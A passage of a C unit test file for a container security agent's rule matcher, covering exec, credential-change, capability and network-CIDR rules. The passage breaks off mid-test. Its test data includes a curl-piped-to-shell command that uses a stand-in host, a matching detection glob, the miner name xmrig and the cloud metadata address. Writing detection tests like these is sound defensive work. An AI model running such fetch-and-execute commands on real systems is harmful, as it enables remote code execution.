// SPDX-License-Identifier: Apache-2.0
/*
 * Rule matching (agent/rules.c): every match key against flattened
 * observations, exceptions, disabled rules, and the embedded default policy
 * against realistic attack shapes and their benign twins.
 *
 * Rules are built from small inline YAML documents through policy_parse, so
 * the matcher is exercised with exactly what the parser hands it.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include <cmocka.h>

#include "nodeguard/credcheck.h"
#include "nodeguard/event.h"
#include "caps.h"
#include "policy.h"
#include "rules.h"

/* ------------------------------------------------------------------ helpers */

static struct policy *parse_ok(const char *yaml)
{
	struct policy *p = NULL;
	struct policy_errors e = { 0 };
	char buf[600];
	size_t i;
	int r = policy_parse("t.yaml", yaml, strlen(yaml), &p, &e);

	if (r != 0) {
		print_message("document:\n%s\nreturned %d\n", yaml, r);
		for (i = 0; i < e.n; i++) {
			policy_error_format(&e.v[i], buf, sizeof(buf));
			print_message("  %s\n", buf);
		}
	}
	policy_errors_free(&e);
	assert_int_equal(r, 0);
	assert_non_null(p);
	return p;
}

/* one rule "r" whose match is BODY (keys indented by 6) */
#define ONE_RULE(body)                                                                       \
	"version: 1\n"                                                                       \
	"rules:\n"                                                                           \
	"  - name: r\n"                                                                      \
	"    severity: high\n"                                                               \
	"    category: execution\n"                                                          \
	"    match:\n" body

static uint64_t cap(const char *name)
{
	int b = caps_from_name(name);

	assert_true(b >= 0);
	return 1ull << b;
}

static struct ng_creds ids(uint32_t uid, uint32_t euid, uint32_t suid, uint32_t fsuid)
{
	return (struct ng_creds){ .uid = uid, .euid = euid, .suid = suid, .fsuid = fsuid,
				  .gid = uid, .egid = euid, .sgid = suid, .fsgid = fsuid };
}

/* a container exec of exe by uid 1000, nothing special about it */
static struct obs exec_obs(const char *exe)
{
	struct obs o = { 0 };

	o.events = RE_EXEC;
	o.is_container = true;
	o.exe = exe;
	o.parent_exe = "/usr/bin/containerd-shim-runc-v2";
	o.ancestors[0] = o.parent_exe;
	o.nancestors = 1;
	o.comm = "x";
	o.cmdline = exe;
	o.uid = 1000;
	o.has_creds = o.old_known = true;
	o.old = ids(1000, 1000, 1000, 1000);
	o.cur = o.old;
	o.success = true;
	o.locations = rules_exe_location(exe, 0);
	return o;
}

static struct obs cred_obs(uint32_t op, struct ng_creds old, struct ng_creds cur, bool ok)
{
	struct obs o = exec_obs("/usr/local/bin/app");

	o.events = RE_CRED_CHANGE;
	o.locations = 0;
	o.op = op;
	o.old = old;
	o.cur = cur;
	o.uid = old.uid;
	o.success = ok;
	return o;
}

static struct obs conn_obs(const char *addr, uint16_t port, uint8_t proto)
{
	struct obs o = exec_obs("/usr/local/bin/app");

	o.events = RE_CONNECT;
	o.locations = 0;
	o.has_creds = o.old_known = false;
	if (strchr(addr, ':')) {
		o.family = AF_INET6;
		assert_int_equal(inet_pton(AF_INET6, addr, o.daddr), 1);
	} else {
		o.family = AF_INET;
		assert_int_equal(inet_pton(AF_INET, addr, o.daddr), 1);
	}
	o.dport = port;
	o.protocol = proto;
	return o;
}

static struct obs k8s_obs(const char *reason, const char *type, const char *kind, const char *msg)
{
	struct obs o = { 0 };

	o.events = RE_K8S_EVENT;
	o.k8s_reason = reason;
	o.k8s_type = type;
	o.k8s_kind = kind;
	o.k8s_message = msg;
	return o;
}

/* does the one rule of the document match o? */
static bool m1(const struct policy *p, const struct obs *o)
{
	assert_int_equal(p->nrules, 1);
	return rule_matches(&p->rules[0], o);
}

/* ------------------------------------------------------------------ events and scope */

static void test_events(void **state)
{
	struct policy *exec = parse_ok(ONE_RULE("      event: exec\n"));
	struct policy *suid = parse_ok(ONE_RULE("      event: setuid-exec\n"));
	struct policy *both = parse_ok(ONE_RULE("      events: [cred-change, setuid-exec]\n"));
	struct policy *anom = parse_ok(ONE_RULE("      event: anomaly\n"));
	struct obs o = exec_obs("/bin/true");

	(void)state;
	assert_int_equal(exec->rules[0].match.events, RE_EXEC);
	assert_int_equal(both->rules[0].match.events, RE_CRED_CHANGE | RE_SETUID_EXEC);

	/* a plain exec */
	assert_true(m1(exec, &o));
	assert_false(m1(suid, &o));
	assert_false(m1(both, &o));
	assert_false(m1(anom, &o));
	/* an exec that changed ids counts as both kinds */
	o.events = RE_EXEC | RE_SETUID_EXEC;
	assert_true(m1(exec, &o));
	assert_true(m1(suid, &o));
	assert_true(m1(both, &o));
	assert_false(m1(anom, &o));
	/* a cred-change is neither exec kind */
	o = cred_obs(NG_CRED_SETUID, ids(0, 0, 0, 0), ids(0, 0, 0, 0), true);
	assert_false(m1(exec, &o));
	assert_false(m1(suid, &o));
	assert_true(m1(both, &o));
	/* an observation of no kind matches nothing */
	o.events = 0;
	assert_false(m1(both, &o));

	policy_free(exec);
	policy_free(suid);
	policy_free(both);
	policy_free(anom);
}

static void test_scope(void **state)
{
	struct policy *dflt = parse_ok(ONE_RULE("      event: exec\n"));
	struct policy *ctr = parse_ok(ONE_RULE("      event: exec\n      scope: container\n"));
	struct policy *host = parse_ok(ONE_RULE("      event: exec\n      scope: host\n"));
	struct policy *any = parse_ok(ONE_RULE("      event: exec\n      scope: any\n"));
	struct obs o = exec_obs("/bin/true");

	(void)state;
	assert_int_equal(dflt->rules[0].match.scope, SCOPE_CONTAINER);
	o.is_container = true;
	assert_true(m1(dflt, &o));
	assert_true(m1(ctr, &o));
	assert_false(m1(host, &o));
	assert_true(m1(any, &o));
	o.is_container = false;
	assert_false(m1(dflt, &o));
	assert_false(m1(ctr, &o));
	assert_true(m1(host, &o));
	assert_true(m1(any, &o));
	policy_free(dflt);
	policy_free(ctr);
	policy_free(host);
	policy_free(any);
}

/* ------------------------------------------------------------------ process keys */

static void test_binary_globs(void **state)
{
	struct policy *p = parse_ok(ONE_RULE("      event: exec\n"
					     "      binary: [\"*/nginx\", /bin/sh, \"/opt/?/run\",\n"
					     "               \"/usr/bin/python3.[0-9]*\", \"/lit/\\\\*\"]\n"));
	struct obs o = exec_obs("/usr/sbin/nginx");

	(void)state;
	assert_true(m1(p, &o));
	o.exe = "/opt/x/y/nginx"; /* '*' crosses '/' */
	assert_true(m1(p, &o));
	o.exe = "nginx"; /* '*' needs the '/' after it */
	assert_false(m1(p, &o));
	o.exe = "/usr/sbin/nginx-debug"; /* the glob matches the whole string */
	assert_false(m1(p, &o));
	o.exe = "/bin/sh";
	assert_true(m1(p, &o));
	o.exe = "/bin/sh2";
	assert_false(m1(p, &o));
	o.exe = "/usr/bin/sh";
	assert_false(m1(p, &o));
	o.exe = "/opt/a/run";
	assert_true(m1(p, &o));
	o.exe = "/opt///run"; /* '?' matches '/' too */
	assert_true(m1(p, &o));
	o.exe = "/opt/ab/run";
	assert_false(m1(p, &o));
	o.exe = "/usr/bin/python3.11";
	assert_true(m1(p, &o));
	o.exe = "/usr/bin/python3.x";
	assert_false(m1(p, &o));
	o.exe = "/lit/*"; /* an escaped star is a literal star */
	assert_true(m1(p, &o));
	o.exe = "/lit/a";
	assert_false(m1(p, &o));
	o.exe = NULL; /* unknown executable */
	assert_false(m1(p, &o));
	o.exe = "";
	assert_false(m1(p, &o));
	policy_free(p);
}

static void test_parent_ancestor_comm_cmdline(void **state)
{
	struct policy *par = parse_ok(ONE_RULE("      event: exec\n"
					       "      parent_binary: \"*/node\"\n"));
	struct policy *anc = parse_ok(ONE_RULE("      event: exec\n"
					       "      ancestor_binary: [\"*/php-fpm*\", /usr/sbin/sshd]\n"));
	struct policy *comm = parse_ok(ONE_RULE("      event: exec\n"
						"      comm: [\"kworker/*\", xmrig]\n"));
	struct policy *cmd = parse_ok(ONE_RULE("      event: exec\n"
					       "      cmdline: [\"sh -c *curl *|*sh*\"]\n"));
	struct obs o = exec_obs("/bin/sh");

	(void)state;
	o.parent_exe = "/usr/local/bin/node";
	assert_true(m1(par, &o));
	o.parent_exe = "/usr/local/bin/nodejs";
	assert_false(m1(par, &o));
	o.parent_exe = NULL;
	assert_false(m1(par, &o));

	/* ancestors: any of them, nearest or farthest */
	o.nancestors = 3;
	o.ancestors[0] = "/bin/bash";
	o.ancestors[1] = "/usr/sbin/php-fpm8.2";
	o.ancestors[2] = "/usr/bin/containerd-shim-runc-v2";
	assert_true(m1(anc, &o));
	o.ancestors[1] = "/usr/bin/tini";
	assert_false(m1(anc, &o));
	o.ancestors[2] = "/usr/sbin/sshd";
	assert_true(m1(anc, &o));
	o.ancestors[0] = "/usr/sbin/php-fpm";
	o.ancestors[2] = "/sbin/init";
	assert_true(m1(anc, &o));
	/* only the first nancestors count */
	o.nancestors = 0;
	assert_false(m1(anc, &o));
	o.nancestors = 2;
	o.ancestors[0] = "/bin/bash";
	o.ancestors[2] = "/usr/sbin/sshd";
	assert_false(m1(anc, &o));

	o.comm = "kworker/0:1";
	assert_true(m1(comm, &o));
	o.comm = "xmrig";
	assert_true(m1(comm, &o));
	o.comm = "xmrig2";
	assert_false(m1(comm, &o));
	o.comm = NULL;
	assert_false(m1(comm, &o));

	o.cmdline = "sh -c curl -s http://x/i.sh|sh";
	assert_true(m1(cmd, &o));
	o.cmdline = "sh -c curl -s http://x/i.sh";
	assert_false(m1(cmd, &o));
	o.cmdline = "bash -c curl x|sh";
	assert_false(m1(cmd, &o));
	o.cmdline = NULL;
	assert_false(m1(cmd, &o));

	policy_free(par);
	policy_free(anc);
	policy_free(comm);
	policy_free(cmd);
}

static void test_uid_selectors(void **state)
{
	struct policy *root = parse_ok(ONE_RULE("      event: exec\n      uid: root\n"));
	struct policy *nonroot = parse_ok(ONE_RULE("      event: exec\n      uid: nonroot\n"));
	struct policy *val = parse_ok(ONE_RULE("      event: exec\n      uid: 1000\n"));
	struct policy *zero = parse_ok(ONE_RULE("      event: exec\n      uid: 0\n"));
	struct policy *max = parse_ok(ONE_RULE("      event: exec\n      uid: 4294967294\n"));
	struct obs o = exec_obs("/bin/true");

	(void)state;
	o.uid = 0;
	assert_true(m1(root, &o));
	assert_false(m1(nonroot, &o));
	assert_false(m1(val, &o));
	assert_true(m1(zero, &o));
	assert_false(m1(max, &o));
	o.uid = 1000;
	assert_false(m1(root, &o));
	assert_true(m1(nonroot, &o));
	assert_true(m1(val, &o));
	assert_false(m1(zero, &o));
	o.uid = 1001;
	assert_true(m1(nonroot, &o));
	assert_false(m1(val, &o));
	o.uid = 4294967294u;
	assert_true(m1(max, &o));
	assert_true(m1(nonroot, &o));
	policy_free(root);
	policy_free(nonroot);
	policy_free(val);
	policy_free(zero);
	policy_free(max);
}

static void test_tristates(void **state)
{
	struct policy *tty_t = parse_ok(ONE_RULE("      event: exec\n      tty: true\n"));
	struct policy *tty_f = parse_ok(ONE_RULE("      event: exec\n      tty: false\n"));
	struct policy *sock = parse_ok(ONE_RULE("      event: exec\n      stdio_socket: true\n"));
	struct policy *nosock = parse_ok(ONE_RULE("      event: exec\n      stdio_socket: false\n"));
	struct policy *pc = parse_ok(ONE_RULE("      event: exec\n      parent_connected: true\n"));
	struct policy *npc = parse_ok(ONE_RULE("      event: exec\n      parent_connected: false\n"));
	struct policy *none = parse_ok(ONE_RULE("      event: exec\n"));
	struct obs o = exec_obs("/bin/sh");
	int bits;

	(void)state;
	for (bits = 0; bits < 8; bits++) {
		o.tty = bits & 1;
		o.stdio_socket = bits & 2;
		o.parent_connected = bits & 4;
		assert_int_equal(m1(tty_t, &o), o.tty);
		assert_int_equal(m1(tty_f, &o), !o.tty);
		assert_int_equal(m1(sock, &o), o.stdio_socket);
		assert_int_equal(m1(nosock, &o), !o.stdio_socket);
		assert_int_equal(m1(pc, &o), o.parent_connected);
		assert_int_equal(m1(npc, &o), !o.parent_connected);
		assert_true(m1(none, &o)); /* not given: any */
	}
	policy_free(tty_t);
	policy_free(tty_f);
	policy_free(sock);
	policy_free(nosock);
	policy_free(pc);
	policy_free(npc);
	policy_free(none);
}

static void test_locations(void **state)
{
	struct policy *tmp = parse_ok(ONE_RULE("      event: exec\n      location: tmp\n"));
	struct policy *shm = parse_ok(ONE_RULE("      event: exec\n      location: dev_shm\n"));
	struct policy *mfd = parse_ok(ONE_RULE("      event: exec\n      location: memfd\n"));
	struct policy *unl = parse_ok(ONE_RULE("      event: exec\n      location: unlinked\n"));
	struct policy *all = parse_ok(ONE_RULE("      event: exec\n"
					       "      location: [tmp, dev_shm, memfd, unlinked]\n"));
	struct obs o = exec_obs("/bin/true");

	(void)state;
	assert_int_equal(rules_exe_location("/tmp/x", 0), LOC_TMP);
	assert_int_equal(rules_exe_location("/tmp/a/b/c", 0), LOC_TMP);
	assert_int_equal(rules_exe_location("/var/tmp/x", 0), LOC_TMP);
	assert_int_equal(rules_exe_location("/dev/shm/x", 0), LOC_DEV_SHM);
	assert_int_equal(rules_exe_location("/run/shm/x", 0), LOC_DEV_SHM);
	assert_int_equal(rules_exe_location("/memfd:payload (deleted)", 0), LOC_MEMFD);
	/* look-alikes are not the locations */
	assert_int_equal(rules_exe_location("/tmpfs/x", 0), 0);
	assert_int_equal(rules_exe_location("/usr/tmp/x", 0), 0);
	assert_int_equal(rules_exe_location("/var/tmpx/x", 0), 0);
	assert_int_equal(rules_exe_location("/dev/shmx", 0), 0);
	assert_int_equal(rules_exe_location("tmp/x", 0), 0);
	assert_int_equal(rules_exe_location("/usr/bin/memfd:x", 0), 0);
	assert_int_equal(rules_exe_location("/usr/bin/env", 0), 0);
	/* the exec flags */
	assert_int_equal(rules_exe_location("/usr/bin/env", NG_EXEC_MEMFD), LOC_MEMFD);
	assert_int_equal(rules_exe_location("/usr/bin/env", NG_EXEC_ANON_FILE), LOC_UNLINKED);
	assert_int_equal(rules_exe_location("/tmp/x", NG_EXEC_MEMFD | NG_EXEC_ANON_FILE),
			 LOC_TMP | LOC_MEMFD | LOC_UNLINKED);
	assert_int_equal(rules_exe_location(NULL, NG_EXEC_ANON_FILE | NG_EXEC_TTY), LOC_UNLINKED);
	assert_int_equal(rules_exe_location(NULL, 0), 0);
	assert_int_equal(rules_exe_location("/usr/bin/env", NG_EXEC_TTY | NG_EXEC_SETUID |
					    NG_EXEC_STDIN_SOCK | NG_EXEC_OLD_KNOWN), 0);

	o.locations = 0;
	assert_false(m1(tmp, &o));
	assert_false(m1(all, &o));
	o.locations = LOC_TMP;
	assert_true(m1(tmp, &o));
	assert_false(m1(shm, &o));
	assert_false(m1(mfd, &o));
	assert_false(m1(unl, &o));
	assert_true(m1(all, &o));
	o.locations = LOC_DEV_SHM;
	assert_false(m1(tmp, &o));
	assert_true(m1(shm, &o));
	assert_true(m1(all, &o));
	o.locations = LOC_MEMFD | LOC_UNLINKED;
	assert_false(m1(tmp, &o));
	assert_false(m1(shm, &o));
	assert_true(m1(mfd, &o));
	assert_true(m1(unl, &o));
	assert_true(m1(all, &o));
	o.locations = LOC_UNLINKED;
	assert_false(m1(mfd, &o));
	assert_true(m1(unl, &o));
	policy_free(tmp);
	policy_free(shm);
	policy_free(mfd);
	policy_free(unl);
	policy_free(all);
}

/* ------------------------------------------------------------------ credential keys */

static void test_ops(void **state)
{
	struct policy *p = parse_ok(ONE_RULE("      event: cred-change\n"
					     "      ops: [setuid, setresuid, capset]\n"));
	struct policy *any = parse_ok(ONE_RULE("      event: cred-change\n"));
	struct obs o = cred_obs(NG_CRED_SETUID, ids(0, 0, 0, 0), ids(1, 1, 1, 1), true);
	uint32_t op;

	(void)state;
	assert_int_equal(p->rules[0].match.ops,
			 (1u << NG_CRED_SETUID) | (1u << NG_CRED_SETRESUID) | (1u << NG_CRED_CAPSET));
	for (op = 0; op < NG_CRED_OP_MAX; op++) {
		o.op = op;
		assert_int_equal(m1(p, &o), op == NG_CRED_SETUID || op == NG_CRED_SETRESUID ||
						    op == NG_CRED_CAPSET);
		assert_true(m1(any, &o));
	}
	policy_free(p);
	policy_free(any);
}

static void test_uid_transitions(void **state)
{
	struct policy *uf = parse_ok(ONE_RULE("      event: cred-change\n      uid_from: nonroot\n"));
	struct policy *ut = parse_ok(ONE_RULE("      event: cred-change\n      uid_to: root\n"));
	struct policy *ef = parse_ok(ONE_RULE("      event: cred-change\n      euid_from: 1000\n"));
	struct policy *et = parse_ok(ONE_RULE("      event: cred-change\n      euid_to: 0\n"));
	struct policy *ft = parse_ok(ONE_RULE("      event: cred-change\n      fsuid_to: root\n"));
	struct policy *all = parse_ok(ONE_RULE("      event: cred-change\n"
					       "      uid_from: 1000\n      uid_to: 1000\n"
					       "      euid_from: 1000\n      euid_to: root\n"
					       "      fsuid_to: nonroot\n"));
	struct policy *ex = parse_ok(ONE_RULE("      event: exec\n      euid_to: root\n"));
	struct obs o;

	(void)state;
	/* setuid(0) by a uid 1000 process holding CAP_SETUID: everything to 0 */
	o = cred_obs(NG_CRED_SETUID, ids(1000, 1000, 1000, 1000), ids(0, 0, 0, 0), true);
	assert_true(m1(uf, &o));
	assert_true(m1(ut, &o));
	assert_true(m1(ef, &o));
	assert_true(m1(et, &o));
	assert_true(m1(ft, &o));
	assert_false(m1(all, &o));
	/* seteuid(0) of a saved-set-uid root program: only euid and fsuid */
	o = cred_obs(NG_CRED_SETRESUID, ids(1000, 1000, 0, 1000), ids(1000, 0, 0, 0), true);
	assert_true(m1(uf, &o));
	assert_false(m1(ut, &o));
	assert_true(m1(ef, &o));
	assert_true(m1(et, &o));
	assert_true(m1(ft, &o));
	assert_false(m1(all, &o)); /* fsuid_to: nonroot fails */
	o.cur.fsuid = 1000;
	assert_true(m1(all, &o));
	assert_false(m1(ft, &o));
	/* from root */
	o = cred_obs(NG_CRED_SETUID, ids(0, 0, 0, 0), ids(0, 0, 0, 0), true);
	assert_false(m1(uf, &o));
	assert_false(m1(ef, &o));
	assert_true(m1(ut, &o));
	o.old.euid = 1001;
	assert_false(m1(ef, &o)); /* a value selector wants exactly 1000 */

	/* *_from needs the old state; *_to only the new one */
	o = exec_obs("/usr/bin/sudo");
	o.cur = ids(1000, 0, 0, 0);
	o.old_known = false;
	assert_true(m1(ex, &o));
	o.has_creds = false;
	assert_false(m1(ex, &o));
	o = cred_obs(NG_CRED_SETUID, ids(1000, 1000, 1000, 1000), ids(0, 0, 0, 0), true);
	o.old_known = false;
	assert_false(m1(uf, &o));
	assert_false(m1(ef, &o));
	assert_true(m1(ut, &o));
	o.has_creds = false;
	assert_false(m1(ut, &o));
	assert_false(m1(et, &o));
	assert_false(m1(ft, &o));

	policy_free(uf);
	policy_free(ut);
	policy_free(ef);
	policy_free(et);
	policy_free(ft);
	policy_free(all);
	policy_free(ex);
}

static void test_gains_root(void **state)
{
	struct policy *g = parse_ok(ONE_RULE("      event: cred-change\n      gains_root: true\n"));
	struct policy *ng = parse_ok(ONE_RULE("      event: cred-change\n      gains_root: false\n"));
	const struct ng_creds user = ids(1000, 1000, 1000, 1000);
	struct obs o;
	int which;

	(void)state;
	/* each of uid, euid, suid, fsuid on its own */
	for (which = 0; which < 4; which++) {
		struct ng_creds cur = user;

		switch (which) {
		case 0: cur.uid = 0; break;
		case 1: cur.euid = 0; break;
		case 2: cur.suid = 0; break;
		case 3: cur.fsuid = 0; break;
		}
		o = cred_obs(NG_CRED_SETRESUID, user, cur, true);
		assert_true(m1(g, &o));
		assert_false(m1(ng, &o));
		/* the same id already 0 before: not a gain */
		o.old = cur;
		assert_false(m1(g, &o));
		assert_true(m1(ng, &o));
	}
	/* a gid becoming 0 is not root */
	o = cred_obs(NG_CRED_SETGID, user, user, true);
	o.cur.gid = o.cur.egid = o.cur.sgid = o.cur.fsgid = 0;
	assert_false(m1(g, &o));
	assert_true(m1(ng, &o));
	/* dropping root is not gaining it */
	o = cred_obs(NG_CRED_SETUID, ids(0, 0, 0, 0), user, true);
	assert_false(m1(g, &o));
	assert_true(m1(ng, &o));
	/* unknown before: neither true nor false can be decided */
	o = cred_obs(NG_CRED_SETUID, user, ids(0, 0, 0, 0), true);
	o.old_known = false;
	assert_false(m1(g, &o));
	assert_false(m1(ng, &o));
	policy_free(g);
	policy_free(ng);
}

static void test_caps_gained(void **state)
{
	struct policy *p = parse_ok(ONE_RULE("      events: [cred-change, setuid-exec]\n"
					     "      caps_gained: [CAP_SYS_ADMIN, sys_ptrace]\n"));
	const uint64_t admin = cap("CAP_SYS_ADMIN"), ptrace = cap("CAP_SYS_PTRACE");
	const uint64_t bind = cap("CAP_NET_BIND_SERVICE"), raw = cap("CAP_NET_RAW");
	struct obs o = cred_obs(NG_CRED_CAPSET, ids(0, 0, 0, 0), ids(0, 0, 0, 0), true);

	(void)state;
	assert_int_equal(p->rules[0].match.caps_gained, admin | ptrace);
	assert_int_equal(obs_caps_gained(&o), 0);
	assert_false(m1(p, &o));

	/* effective grows */
	o.old.cap_prm = admin | bind;
	o.old.cap_eff = bind;
	o.cur.cap_prm = admin | bind;
	o.cur.cap_eff = admin | bind;
	assert_int_equal(obs_caps_gained(&o), admin);
	assert_true(m1(p, &o));
	/* permitted grows (a file-capability exec) */
	o.old.cap_prm = o.old.cap_eff = 0;
	o.cur.cap_prm = ptrace | raw;
	o.cur.cap_eff = 0;
	assert_int_equal(obs_caps_gained(&o), ptrace | raw);
	assert_true(m1(p, &o));
	/* growth of other capabilities only */
	o.cur.cap_prm = raw;
	o.cur.cap_eff = bind;
	assert_int_equal(obs_caps_gained(&o), raw | bind);
	assert_false(m1(p, &o));
	/* held before: no gain (eff and prm each compared with their own old set) */
	o.old.cap_prm = o.old.cap_eff = admin | ptrace;
	o.cur.cap_prm = o.cur.cap_eff = admin | ptrace;
	assert_int_equal(obs_caps_gained(&o), 0);
	assert_false(m1(p, &o));
	/* in permitted before, raised into effective: a gain of effective */
	o.old.cap_eff = 0;
	assert_int_equal(obs_caps_gained(&o), admin | ptrace);
	assert_true(m1(p, &o));
	/* losing capabilities */
	o.old.cap_prm = o.old.cap_eff = ~0ull >> 23;
	o.cur.cap_prm = o.cur.cap_eff = 0;
	assert_int_equal(obs_caps_gained(&o), 0);
	assert_false(m1(p, &o));
	/* old unknown: no gain, whatever is held now */
	o.old_known = false;
	o.old.cap_prm = o.old.cap_eff = 0;
	o.cur.cap_prm = o.cur.cap_eff = admin;
	assert_int_equal(obs_caps_gained(&o), 0);
	assert_false(m1(p, &o));
	o.old_known = true;
	assert_int_equal(obs_caps_gained(&o), admin);
	o.has_creds = false;
	assert_int_equal(obs_caps_gained(&o), 0);
	assert_false(m1(p, &o));
	/* a setuid exec gaining them */
	o = exec_obs("/usr/bin/newtool");
	o.events = RE_EXEC | RE_SETUID_EXEC;
	o.cur.cap_prm = o.cur.cap_eff = admin;
	assert_true(m1(p, &o));
	policy_free(p);
}

static void test_caps_effective(void **state)
{
	struct policy *p = parse_ok(ONE_RULE("      event: exec\n"
					     "      caps_effective: [CAP_SYS_MODULE, CAP_BPF]\n"));
	struct obs o = exec_obs("/usr/bin/kmod");

	(void)state;
	assert_false(m1(p, &o));
	o.cur.cap_prm = cap("CAP_SYS_MODULE"); /* permitted is not effective */
	assert_false(m1(p, &o));
	o.cur.cap_eff = cap("CAP_BPF") | cap("CAP_CHOWN");
	assert_true(m1(p, &o));
	/* held before too: effective is about now, not a change */
	o.old = o.cur;
	assert_true(m1(p, &o));
	o.old_known = false;
	assert_true(m1(p, &o));
	o.has_creds = false;
	assert_false(m1(p, &o));
	policy_free(p);
}

static void test_success(void **state)
{
	struct policy *dflt = parse_ok(ONE_RULE("      event: cred-change\n"));
	struct policy *fail = parse_ok(ONE_RULE("      event: cred-change\n      success: false\n"));
	struct policy *mixed = parse_ok(ONE_RULE("      events: [cred-change, setuid-exec]\n"));
	struct policy *exc = parse_ok(ONE_RULE("      event: cred-change\n"
					       "      success: false\n"
					       "    exceptions:\n"
					       "      - binary: /usr/local/bin/app\n"));
	struct obs o = cred_obs(NG_CRED_SETUID, ids(1000, 1000, 1000, 1000), ids(0, 0, 0, 0), true);

	(void)state;
	/* default true for rules with cred-change, any for exceptions */
	assert_int_equal(dflt->rules[0].match.success, TRI_TRUE);
	assert_int_equal(fail->rules[0].match.success, TRI_FALSE);
	assert_int_equal(mixed->rules[0].match.success, TRI_TRUE);
	assert_int_equal(exc->rules[0].exceptions[0].success, TRI_ANY);

	assert_true(m1(dflt, &o));
	assert_false(m1(fail, &o));
	assert_true(m1(mixed, &o));
	o.success = false; /* EPERM */
	assert_false(m1(dflt, &o));
	assert_true(m1(fail, &o));
	assert_false(m1(mixed, &o));
	/* the exception has no success key of its own: it excepts the failure */
	assert_false(m1(exc, &o));
	o.exe = "/usr/local/bin/other";
	assert_true(m1(exc, &o));

	/* success is only consulted for cred-change observations */
	o = exec_obs("/usr/bin/passwd");
	o.events = RE_EXEC | RE_SETUID_EXEC;
	o.success = false;
	assert_true(m1(mixed, &o));
	policy_free(dflt);
	policy_free(fail);
	policy_free(mixed);
	policy_free(exc);
}

static void test_anomaly_reasons(void **state)
{
	struct policy *esc = parse_ok(ONE_RULE("      event: anomaly\n"
					       "      anomaly: [euid_root, caps_gained]\n"));
	struct policy *ns = parse_ok(ONE_RULE("      event: anomaly\n"
					      "      anomaly: [host_mntns, host_netns]\n"));
	struct policy *any = parse_ok(ONE_RULE("      event: anomaly\n"));
	struct obs o = exec_obs("/usr/local/bin/app");

	(void)state;
	assert_int_equal(esc->rules[0].match.anomaly_reasons, NG_AN_EUID_ROOT | NG_AN_CAPS_GAINED);
	o.events = RE_ANOMALY;
	o.anomaly_reasons = NG_AN_EUID_ROOT | NG_AN_IDS_CHANGED;
	assert_true(m1(esc, &o));
	assert_false(m1(ns, &o));
	assert_true(m1(any, &o));
	o.anomaly_reasons = NG_AN_CAPS_GAINED;
	assert_true(m1(esc, &o));
	o.anomaly_reasons = NG_AN_UID_ROOT | NG_AN_FSUID_ROOT | NG_AN_IDS_CHANGED;
	assert_false(m1(esc, &o));
	assert_false(m1(ns, &o));
	o.anomaly_reasons = NG_AN_HOST_NETNS;
	assert_false(m1(esc, &o));
	assert_true(m1(ns, &o));
	o.anomaly_reasons = 0;
	assert_false(m1(esc, &o));
	assert_false(m1(ns, &o));
	assert_true(m1(any, &o));
	policy_free(esc);
	policy_free(ns);
	policy_free(any);
}

/* ------------------------------------------------------------------ network keys */

static struct cidr mkcidr(const char *addr, unsigned prefix)
{
	struct cidr c = { 0 };

	c.family = strchr(addr, ':') ? AF_INET6 : AF_INET;
	c.prefix = (uint8_t)prefix;
	assert_int_equal(inet_pton(c.family, addr, c.addr), 1);
	return c;
}

static bool in(const char *net, unsigned prefix, const char *addr)
{
	struct cidr c = mkcidr(net, prefix);
	uint8_t a[16] = { 0 };
	uint16_t fam = strchr(addr, ':') ? AF_INET6 : AF_INET;

	assert_int_equal(inet_pton(fam, addr, a), 1);
	return cidr_contains(&c, fam, a);
}

static void test_cidr_contains(void **state)
{
	(void)state;
	/* IPv4 */
	assert_true(in("0.0.0.0", 0, "203.0.113.9"));
	assert_true(in("0.0.0.0", 0, "0.0.0.0"));
	assert_true(in("10.0.0.0", 8, "10.255.255.255"));
	assert_false(in("10.0.0.0", 8, "11.0.0.0"));
	assert_true(in("169.254.169.254", 32, "169.254.169.254"));
	assert_false(in("169.254.169.254", 32, "169.254.169.253"));
	assert_false(in("169.254.169.254", 32, "169.254.169.255"));
	/* /20: the third byte is split 4/4 */
	assert_true(in("172.16.16.0", 20, "172.16.16.0"));
	assert_true(in("172.16.16.0", 20, "172.16.31.255"));
	assert_false(in("172.16.16.0", 20, "172.16.32.0"));
	assert_false(in("172.16.16.0", 20, "172.16.15.255"));
	/* /31 and /1 */
	assert_true(in("192.0.2.6", 31, "192.0.2.7"));
	assert_false(in("192.0.2.6", 31, "192.0.2.8"));
	assert_true(in("128.0.0.0", 1, "255.1.2.3"));
	assert_false(in("128.0.0.0", 1, "127.255.255.255"));
	/* IPv6 */
	assert_true(in("::", 0, "2001:db8::1"));
	assert_true(in("fd00:ec2::254", 128, "fd00:ec2::254"));
	assert_false(in("fd00:ec2::254", 128, "fd00:ec2::255"));
	assert_true(in("2001:db8::", 32, "2001:db8:ffff::1"));
	assert_false(in("2001:db8::", 32, "2001:db9::1"));
	/* /121: the last byte is split 1/7 */
	assert_true(in("2001:db8::80", 121, "2001:db8::80"));
	assert_true(in("2001:db8::80", 121, "2001:db8::ff"));
	assert_false(in("2001:db8::80", 121, "2001:db8::7f"));
	assert_false(in("2001:db8::80", 121, "2001:db8::1:80"));
	/* /127 */
	assert_true(in("2001:db8::2", 127, "2001:db8::3"));
	assert_false(in("2001:db8::2", 127, "2001:db8::4"));
	/* families never cross in cidr_contains: ::/0 holds no IPv4 address and
	 * 0.0.0.0/0 no IPv6 one (v4-mapped addresses are handled by match_eval) */
	assert_false(in("::", 0, "10.0.0.1"));
	assert_false(in("0.0.0.0", 0, "::ffff:10.0.0.1"));
	assert_false(in("0.0.0.0", 0, "2001:db8::1"));
}

static void test_cidrs_match(void **state)
{
	struct policy *p = parse_ok(ONE_RULE("      event: connect\n"
					     "      cidrs: [169.254.169.254/32, 10.96.0.0/12, fd00:ec2::254,\n"
					     "              \"2001:db8::80/121\"]\n"));
	struct policy *all4 = parse_ok(ONE_RULE("      event: connect\n      cidrs: [0.0.0.0/0]\n"));
	struct policy *all6 = parse_ok(ONE_RULE("      event: connect\n      cidrs: [\"::/0\"]\n"));
	struct policy *mapped = parse_ok(ONE_RULE("      event: connect\n"
						  "      cidrs: [\"::ffff:169.254.169.254/128\"]\n"));
	struct obs o;

	(void)state;
	assert_int_equal(p->rules[0].match.ncidrs, 4);
	assert_int_equal(p->rules[0].match.cidrs[2].prefix, 128); /* a bare address */
	o = conn_obs("169.254.169.254", 80, 6);
	assert_true(m1(p, &o));
	assert_true(m1(all4, &o));
	assert_false(m1(all6, &o));
	assert_false(m1(mapped, &o)); /* an IPv6 CIDR holds no IPv4 destination */
